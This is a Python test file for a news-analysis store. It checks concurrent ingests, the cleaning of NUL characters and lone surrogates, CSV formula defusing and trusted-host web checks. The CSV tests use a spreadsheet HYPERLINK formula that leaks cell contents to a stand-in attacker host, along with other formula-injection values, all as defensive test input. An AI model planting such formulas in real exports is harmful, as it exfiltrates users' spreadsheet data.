"""The store and the server under concurrency and hostile input (issue 16, items 5-7).

* Ingests started together on a fresh store (a new SQLite file, a new PostgreSQL schema) take turns on the
  schema migration and store every input exactly once.
* NUL and lone surrogates in any string (outlet, title, author, text, source, names) are stored, replaced by
  U+FFFD the same way on SQLite and PostgreSQL.
* CSV exports (``presslens export`` of every kind, ``presslens search --format csv``) defuse spreadsheet formulas.
* The web app answers only for its configured hosts, and builds no redirect from the Host header.

PostgreSQL as in tests/test_store.py ($PRESSLENS_TEST_PG, a fresh schema per test, skipped when unreachable
unless PRESSLENS_REQUIRE_PG is set).
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from presslens.record.schema import validate
from presslens.store import Store, StoreError, content_hash
from presslens.store.db import REPLACEMENT, migration_lock_key, storable
from presslens.store.ingest import ingest, ingest_records
from test_store import db_url, pg_admin  # noqa: F401  (fixtures: a fresh SQLite file or PostgreSQL schema)

ROOT = Path(__file__).resolve().parents[1]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


# --------------------------------------------------------------------------------------------- records


def _span(text: str, part: str, start: int = 0) -> list[int]:
    s = text.index(part, start)
    return [s, s + len(part)]


def record(i: int, *, head: str | None = None, outlet: str = "Daily Courier", **meta: Any) -> dict[str, Any]:
    """A small presslens/1 record written by hand (no analysis): a quote by a named minister, a technique, a
    figure, a claim and a relation, all with real offsets into the text. ``head`` starts the text."""
    head = head or f"Harbour plan {i} faces a vote"
    inner = f"-{i} ships is the count, and we will not wait,"
    claim = f"Port fees rose +5 percent in Ruritania in {2000 + i}."
    text = f"{head}\n\n“{inner}” said Ana Costa, the finance minister of Ruritania. {claim}\n"
    quote, speaker, country = _span(text, inner), _span(text, "Ana Costa"), _span(text, "Ruritania")
    art = {"id": f"r{i}", "source": f"gen:{i}", "title": f"Plan {i}", "url": None, "outlet": outlet}
    art |= {"author": None, "published": f"2024-01-{1 + i % 28:02d}", "language": "en", "text": text, "ignored": []}
    art |= meta
    voice = {"quote": "q1", "actor": "a1"}
    rec = {
        "schema": "presslens/1",
        "article": art,
        "actors": [
            {
                "id": "a1",
                "name": "Ana Costa",
                "kind": "person",
                "aliases": [],
                "titles": [],
                "kb_id": None,
                "roles": [
                    {"role": "finance minister", "organization": "Ruritania", "span": _span(text, "finance minister")}
                ],
                "mentions": [speaker],
            },
            {
                "id": "a2",
                "name": "Ruritania",
                "kind": "country",
                "aliases": [],
                "titles": [],
                "roles": [],
                "mentions": [country],
                "kb_id": None,
            },
        ],
        "quotes": [
            {
                "id": "q1",
                "kind": "direct",
                "content": [quote],
                "cue": [_span(text, "said")],
                "speaker": {"span": speaker, "actor": "a1", "name": "Ana Costa", "text": "Ana Costa"},
                "confidence": 0.9,
            }
        ],
        "techniques": [
            {
                "technique": "Loaded_Language",
                "span": [0, len(head)],
                "score": 0.7,
                "voice": {"quote": None, "actor": None},
            },
            {"technique": "Appeal_to_fear-prejudice", "span": quote, "score": 0.6, "voice": voice},
        ],
        "figures": [
            {
                "id": "f1",
                "span": _span(text, "+5 percent"),
                "text": "+5 percent",
                "value": 5,
                "high": None,
                "qualifier": "exact",
                "change": "up",
                "unit": "percent",
                "counts": None,
                "source": {"quote": None, "actor": None},
            },
            {
                "id": "f2",
                "span": _span(text, f"-{i} ships"),
                "text": f"-{i} ships",
                "value": i,
                "high": None,
                "qualifier": "exact",
                "change": None,
                "unit": None,
                "counts": _span(text, "ships"),
                "source": voice,
            },
        ],
        "claims": [
            {
                "id": "c1",
                "span": _span(text, claim),
                "checkworthy": True,
                "score": 0.8,
                "source": {"quote": None, "actor": None},
            },
            {
                "id": "c2",
                "span": [0, len(head)],
                "checkworthy": False,
                "score": 0.2,
                "source": {"quote": None, "actor": None},
            },
        ],
        "relations": [
            {
                "id": "r1",
                "subject": "a1",
                "relation": "works_for",
                "object": "a2",
                "evidence": _span(text, "the finance minister of Ruritania"),
                "source": {"quote": None, "actor": None},
                "negated": False,
                "confidence": 0.9,
            }
        ],
        "presslens": {"version": "0.1.0", "model": "hand-written"},
    }
    return rec


def test_the_hand_written_records_follow_the_contract() -> None:
    validate(record(3))
    validate(record(4, head=HOSTILE_TITLE, title=HOSTILE_TITLE, outlet="+Outlet", author="@SUM(A1)"))


def write_shard(path: Path, records: list[dict[str, Any]]) -> Path:
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table({"record": [json.dumps(r, ensure_ascii=False) for r in records]}), path)
    return path


def scalar(store: Store, sql: str, **params: Any) -> Any:
    with store.engine.connect() as conn:
        return conn.execute(sa.text(sql), params).scalar()


def fetch(store: Store, sql: str, **params: Any) -> list[Any]:
    with store.engine.connect() as conn:
        return list(conn.execute(sa.text(sql), params))


# --------------------------------------------------------------------------------------------- races


def _ingest_cmd(db: str, *inputs: Path) -> list[str]:
    return [sys.executable, "-m", "presslens.cli", "ingest", *map(str, inputs), "--db", db, "--batch-size", "4"]


def _run_together(cmds: list[list[str]], timeout: float = 420) -> list[subprocess.CompletedProcess[str]]:
    """Start every command at once (all spawned before any is waited for); their results."""
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    procs = [
        subprocess.Popen(c, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for c in cmds
    ]
    done = []
    for p, c in zip(procs, cmds, strict=True):
        out, err = p.communicate(timeout=timeout)
        done.append(subprocess.CompletedProcess(c, p.returncode, out, err))
    return done


def _summary(stderr: str) -> dict[str, int]:
    """The counts of an ingest's summary line ("0 analysed, 12 loaded from shards, 3 skipped as known, 0 errors")."""
    line = [ln for ln in stderr.splitlines() if "analysed" in ln][-1]
    counts = {}
    for part in line.split("presslens:", 1)[1].split("(")[0].split(","):
        n, _, what = part.strip().partition(" ")
        counts[what.split()[0]] = int(n)
    return counts


def test_ingests_started_together_store_every_input_once(db_url: str, tmp_path: Path) -> None:  # noqa: F811
    """Three ingests at once on a fresh store (migration race), then three at once on the existing store with
    overlapping inputs: every input stored once, no error, each article stored by exactly one of them."""
    n = 24
    first = write_shard(tmp_path / "first.parquet", [record(i) for i in range(n)])
    second = write_shard(tmp_path / "second.parquet", [record(i) for i in range(n // 2, n + n // 2)])
    for inputs, total in (((first,), n), ((second, first), n + n // 2)):
        runs = _run_together([_ingest_cmd(db_url, *inputs) for _ in range(3)])
        for r in runs:
            assert r.returncode == 0, r.stderr[-3000:]
        counts = [_summary(r.stderr) for r in runs]
        assert all(c["errors"] == 0 for c in counts), [r.stderr[-500:] for r in runs]
        with Store.open(db_url, create=False) as store:
            assert scalar(store, "SELECT count(*) FROM articles") == total
            assert scalar(store, "SELECT count(DISTINCT content_hash) FROM articles") == total
            assert scalar(store, "SELECT count(*) FROM errors") == 0
            assert scalar(store, "SELECT count(*) FROM quotes") == total  # every article complete, once
            assert fetch(store, "SELECT count(*) FROM alembic_version") == [(1,)]
        stored_now = total - (0 if inputs == (first,) else n)
        assert sum(c.get("loaded", 0) for c in counts) == stored_now, counts  # each stored by one run only


def test_threads_racing_on_the_same_records_store_each_once(db_url: str) -> None:  # noqa: F811
    """Four writers (each its own engine) load the same records at the same moment, one article per batch."""
    records = [record(100 + i) for i in range(12)]
    Store.open(db_url).close()  # migrated; the race here is on the rows
    stats: list[Any] = []
    barrier = threading.Barrier(4)

    def load() -> None:
        with Store.open(db_url) as store:
            barrier.wait()
            stats.append(ingest_records(store, records, batch_size=1))

    threads = [threading.Thread(target=load) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(300)
    assert len(stats) == 4
    assert sum(s.errors for s in stats) == 0, [s.error_sources for s in stats]
    assert sum(s.loaded for s in stats) == len(records)
    assert sum(s.known for s in stats) == 3 * len(records)
    with Store.open(db_url, create=False) as store:
        assert scalar(store, "SELECT count(*) FROM articles") == len(records)
        assert scalar(store, "SELECT count(*) FROM signatures") == len(records)


def test_migration_lock_key_is_per_database_and_schema() -> None:
    keys = {migration_lock_key(d, s) for d in ("test", "corpus") for s in ("public", "presslens", None)}
    assert len(keys) == 6 and all(-(2**63) <= k < 2**63 for k in keys)
    assert migration_lock_key("test", "public") == migration_lock_key("test", "public")


# --------------------------------------------------------------------------------------------- unstorable strings


@given(st.text(alphabet=st.characters(codec=None, min_codepoint=0, max_codepoint=0x10FFFF), max_size=60))
@settings(max_examples=300, deadline=None)
def test_storable_replaces_exactly_nul_and_lone_surrogates(text: str) -> None:
    out = storable(text)
    assert len(out) == len(text)  # offsets into a text stay valid
    out.encode("utf-8")  # every backend's encoder takes it
    assert "\x00" not in out
    for a, b in zip(text, out, strict=True):
        bad = a == "\x00" or 0xD800 <= ord(a) <= 0xDFFF
        assert b == (REPLACEMENT if bad else a)
    assert storable(out) == out


def test_storable_reaches_nested_values_and_documents() -> None:
    from presslens.inputs import Document

    doc = storable(Document(text="a\x00b", title="t\ud800", source="f\udcff.txt", outlet=None))
    assert (doc.text, doc.title, doc.source, doc.outlet) == ("a\ufffdb", "t\ufffd", "f\ufffd.txt", None)
    assert storable({"k\x00": [("x\udfff", 1, None, 2.5, True)]}) == {"k\ufffd": [("x\ufffd", 1, None, 2.5, True)]}


DIRTY = {
    "outlet": "Daily\x00Courier",
    "title": "Budget \ud800 row",
    "author": "Ana\udcff Costa",
    "source": "feed\udcfe.jsonl:1",
    "url": "https://news.example/a\x00b",
}
CLEAN = {
    k: v.replace("\x00", "\ufffd").replace("\ud800", "\ufffd").replace("\udcff", "\ufffd").replace("\udcfe", "\ufffd")
    for k, v in DIRTY.items()
}


def test_nul_and_surrogates_are_stored_the_same_on_both_backends(db_url: str) -> None:  # noqa: F811
    rec = record(7, head="Harbour\x00plan \udc80faces a vote", **DIRTY)
    rec["actors"][0]["aliases"] = ["Costa\x00"]
    text = rec["article"]["text"]
    with Store.open(db_url) as store:
        stats = ingest_records(store, [rec])
        assert (stats.loaded, stats.errors) == (1, 0), stats.error_sources
        row = fetch(store, "SELECT outlet, title, author, source, url, text, content_hash, record FROM articles")[0]
        assert (row.outlet, row.title, row.author, row.source, row.url) == tuple(
            CLEAN[k] for k in ("outlet", "title", "author", "source", "url")
        )
        assert row.text == "Harbour\ufffdplan \ufffdfaces a vote" + text[len("Harbour\x00plan \udc80faces a vote") :]
        assert len(row.text) == len(text) and row.content_hash == content_hash(row.text)
        stored = row.record if isinstance(row.record, dict) else json.loads(row.record)
        assert stored["article"]["text"] == row.text and stored["article"]["outlet"] == CLEAN["outlet"]
        assert stored["actors"][0]["aliases"] == ["Costa\ufffd"]
        techniques = fetch(store, "SELECT text FROM techniques ORDER BY id")
        assert techniques[0].text == "Harbour\ufffdplan \ufffdfaces a vote"  # offsets still point at the same words
        assert fetch(store, "SELECT content FROM quotes") == [("-7 ships is the count, and we will not wait,",)]
        # the same dirty record again is known (identity from the stored, cleaned text and URL)
        again = ingest_records(store, [rec])
        assert (again.loaded, again.known, again.errors) == (0, 1, 0)
        # a search with the cleaned outlet finds it
        from presslens.store.search import search

        assert len(search(store, outlet=[CLEAN["outlet"]])) == 1


def test_inputs_with_nul_and_surrogates_are_analysed_and_stored(db_url: str, tmp_path: Path) -> None:  # noqa: F811
    """Through the readers and the real pipeline: a JSON Lines row with \\u0000 and lone-surrogate escapes in
    its metadata and text, and an empty file whose name is not UTF-8 (an error row with that name)."""
    text = "Ceasefire talks stall\x00\n\n“We will not wait,” said Ana Costa, the finance minister.\n"
    row = {"text": text, "outlet": "Tehran\x00Times", "title": "Talks \ud83d stall", "author": "A\udc00B"}
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps(row) + "\n", encoding="utf-8")  # json.dumps escapes them: \u0000, \ud83d
    odd = os.path.join(os.fsencode(tmp_path), b"empty-\xff.txt")
    open(odd, "wb").close()
    with Store.open(db_url) as store:
        stats = ingest(store, [str(src), os.fsdecode(odd)], warn=lambda msg: None)
        assert (stats.analysed, stats.errors) == (1, 1), stats.error_sources
        art = fetch(store, "SELECT outlet, title, author, text FROM articles")[0]
        assert (art.outlet, art.title, art.author) == ("Tehran\ufffdTimes", "Talks \ufffd stall", "A\ufffdB")
        assert art.text == text.replace("\x00", "\ufffd")
        assert ("Ana Costa",) in fetch(store, "SELECT speaker_name FROM quotes")
        (source,) = fetch(store, "SELECT source FROM errors")[0]
        assert source.endswith("empty-\ufffd.txt")
        again = ingest(store, [str(src)], warn=lambda msg: None)  # known by its cleaned text: nothing analysed
        assert (again.analysed, again.known) == (0, 1)


@given(outlet=st.text(max_size=12), title=st.text(max_size=12))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_outlet_and_title_round_trip_through_sqlite(tmp_path: Path, outlet: str, title: str) -> None:
    db = tmp_path / f"h{abs(hash((outlet, title)))}.db"
    with Store.open(f"sqlite:///{db}") as store:
        stats = ingest_records(store, [record(1, outlet=outlet, title=title)])
        assert stats.errors == 0, stats.error_sources
        assert fetch(store, "SELECT outlet, title FROM articles") == [(storable(outlet), storable(title))]
    db.unlink()


# --------------------------------------------------------------------------------------------- CSV formulas


def _hostile_store(db: str) -> None:
    with Store.open(db) as store:
        hostile = record(1, head=HOSTILE_TITLE, title=HOSTILE_TITLE, outlet="+Outlet", author="@SUM(A1)")
        hostile["actors"][0]["name"] = "=Ana Costa"
        hostile["quotes"][0]["speaker"]["name"] = "=Ana Costa"
        stats = ingest_records(store, [hostile, record(2, title="\tTabbed", outlet="-Minus")])
        assert stats.errors == 0, stats.error_sources


def _assert_defused(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for name, cell in row.items():
            assert not (cell or "").startswith(FORMULA), (name, cell)
    return rows


@pytest.mark.parametrize(
    "what", ["articles", "quotes", "actors", "techniques", "figures", "claims", "relations", "records"]
)
def test_cli_export_csv_defuses_formulas_for_every_kind(tmp_path: Path, what: str) -> None:
    from presslens.cli import app

    db = f"sqlite:///{tmp_path / 'x.db'}"
    _hostile_store(db)
    out = tmp_path / f"{what}.csv"
    res = CliRunner().invoke(app, ["export", "--what", what, "--format", "csv", "-o", str(out), "--db", db])
    assert res.exit_code == 0, res.output
    rows = _assert_defused(out.read_text(encoding="utf-8"))
    cells = {c for r in rows for c in r.values()}
    if what == "articles":
        assert "'" + HOSTILE_TITLE in cells and "'+Outlet" in cells and "'@SUM(A1)" in cells and "'\tTabbed" in cells
        assert any(c.startswith("'" + HOSTILE_TITLE + "\n") for c in cells)  # the article text
    elif what == "records":
        assert json.loads(rows[0]["record"])["article"]["title"] == HOSTILE_TITLE  # JSON text starts with {
    else:
        assert "'+Outlet" in cells or "'-Minus" in cells  # the article context columns too
    if what in ("quotes", "figures"):
        assert any(c.startswith("'-1 ships") for c in cells)
    if what == "techniques":
        assert "'" + HOSTILE_TITLE in cells


def test_cli_export_jsonl_keeps_text_as_it_is(tmp_path: Path) -> None:
    from presslens.cli import app

    db = f"sqlite:///{tmp_path / 'x.db'}"
    _hostile_store(db)
    res = CliRunner().invoke(app, ["export", "--what", "articles", "--format", "jsonl", "--db", db])
    titles = {json.loads(line)["title"] for line in res.stdout.splitlines()}
    assert HOSTILE_TITLE in titles


def test_cli_search_csv_defuses_formulas(tmp_path: Path) -> None:
    from presslens.cli import app

    db = f"sqlite:///{tmp_path / 'x.db'}"
    _hostile_store(db)
    for args in (["--in", "quotes"], ["--in", "articles"], ["--in", "figures"], ["--in", "claims"]):
        res = CliRunner().invoke(app, ["search", *args, "--format", "csv", "--db", db])
        assert res.exit_code == 0, res.output
        _assert_defused(res.stdout)


# --------------------------------------------------------------------------------------------- trusted hosts


@pytest.fixture(scope="module")
def web_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    db = f"sqlite:///{tmp_path_factory.mktemp('web') / 'web.db'}"
    with Store.open(db) as store:
        ingest_records(store, [record(i) for i in range(3)])
    return db


def _client(db: str, hosts: list[str] | None) -> Any:
    from fastapi.testclient import TestClient

    from presslens.web.app import create_app

    return TestClient(create_app(db, allowed_hosts=hosts), follow_redirects=False)


def test_only_configured_hosts_are_answered(web_db: str) -> None:
    client = _client(web_db, ["127.0.0.1", "localhost", "::1", "*.news.example"])
    for host in ("127.0.0.1:8000", "localhost", "LOCALHOST.:80", "[::1]:8000", "desk.news.example"):
        assert client.get("/api/overview", headers={"Host": host}).status_code == 200, host
    for host in ("evil.example", "news.example", "localhost.evil.example", "127.0.0.1.evil", "[::1", "a b", ""):
        for path in ("/", "/api/overview", "/articles/1", "/articles/"):
            r = client.get(path, headers={"Host": host})
            assert r.status_code == 400, (host, path, r.status_code)
            assert "location" not in r.headers and r.headers["x-frame-options"] == "DENY"
            assert host not in r.text or not host
    assert client.head("/", headers={"Host": "evil.example"}).status_code == 400
    assert client.post("/api/articles", headers={"Host": "evil.example"}, json={}).status_code == 400


def test_redirects_are_never_built_from_the_host_header(web_db: str) -> None:
    for hosts in (None, ["evil.example"]):  # even an app that answers any host redirects relatively
        client = _client(web_db, hosts)
        r = client.get("/articles/", headers={"Host": "evil.example"})
        assert r.status_code in (301, 307, 308) and r.headers["location"] == "/articles"
        r = client.get("/api/quotes/?limit=1", headers={"Host": "evil.example"})
        assert r.headers["location"] == "/api/quotes?limit=1"


@given(st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_a_relative_location_never_names_a_host(location: str) -> None:
    from presslens.web.security import _relative

    out = _relative(location.encode("utf-8").decode("latin-1").encode("latin-1")).decode("latin-1")
    assert not out.startswith(("//", "/\\"))
    if location.startswith(("http://", "https://")):
        assert out.startswith("/")


@given(st.text(max_size=30))
@settings(max_examples=300, deadline=None)
def test_host_check_answers_only_the_named_hosts(header: str) -> None:
    from presslens.web.security import TrustedHosts, host_name

    guard = TrustedHosts(None, ["localhost", "*.news.example"])
    name = host_name(header)
    assert guard.allows(header) == (name is not None and (name == "localhost" or name.endswith(".news.example")))


def test_serve_answers_its_hosts_and_refuses_others(web_db: str) -> None:
    import httpx

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    cmd = [sys.executable, "-m", "presslens.cli", "serve", "--db", web_db, "--port", str(port)]
    bad = subprocess.run([*cmd, "--allowed-host", "a b"], capture_output=True, text=True, timeout=120)
    assert bad.returncode == 2 and "--allowed-host" in bad.stderr
    proc = subprocess.Popen(
        [*cmd, "--allowed-host", "newsroom.example"], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                ok = httpx.get(f"http://127.0.0.1:{port}/api/overview", timeout=10)
                break
            except httpx.TransportError:
                assert time.monotonic() < deadline and proc.poll() is None
                time.sleep(0.3)
        assert ok.status_code == 200
        url = f"http://127.0.0.1:{port}/api/overview"
        assert httpx.get(url, headers={"Host": f"localhost:{port}"}, timeout=10).status_code == 200
        assert httpx.get(url, headers={"Host": "newsroom.example"}, timeout=10).status_code == 200
        assert httpx.get(url, headers={"Host": "evil.example"}, timeout=10).status_code == 400
        moved = httpx.get(f"http://127.0.0.1:{port}/articles/", timeout=10)
        assert moved.headers["location"] == "/articles"
    finally:
        proc.terminate()
        proc.wait(timeout=20)


def test_allowed_hosts_default_to_the_local_names_and_the_bind_address() -> None:
    from presslens.cli.web import allowed_hosts

    assert allowed_hosts("127.0.0.1", []) == ["127.0.0.1", "localhost", "::1"]
    assert allowed_hosts("10.0.0.5", ["news.example"]) == ["127.0.0.1", "localhost", "::1", "10.0.0.5", "news.example"]
    assert allowed_hosts("0.0.0.0", []) == ["127.0.0.1", "localhost", "::1"]


def test_opening_a_store_tries_again_when_sqlite_reports_it_locked(tmp_path: Path, monkeypatch) -> None:
    """Three processes that create one fresh SQLite file at once can get "database is locked" from the switch to
    WAL, which no busy timeout covers (seen once in CI): opening tries again and succeeds; other errors, and a lock
    that lasts, still fail."""
    import sqlite3

    from sqlalchemy.exc import OperationalError

    from presslens.store import db

    real = db._run
    calls = {"n": 0}

    def flaky(engine, step, revision):
        calls["n"] += 1
        if calls["n"] < 3:
            raise OperationalError("PRAGMA journal_mode=WAL", {}, sqlite3.OperationalError("database is locked"))
        return real(engine, step, revision)

    monkeypatch.setattr(db, "_run", flaky)
    with Store.open(f"sqlite:///{tmp_path / 'a.db'}") as store:
        assert scalar(store, "SELECT count(*) FROM alembic_version") == 1
    assert calls["n"] == 3

    def always(engine, step, revision):
        raise OperationalError("BEGIN IMMEDIATE", {}, sqlite3.OperationalError("database is locked"))

    monkeypatch.setattr(db, "_run", always)
    with pytest.raises(StoreError, match="locked"):
        Store.open(f"sqlite:///{tmp_path / 'b.db'}")
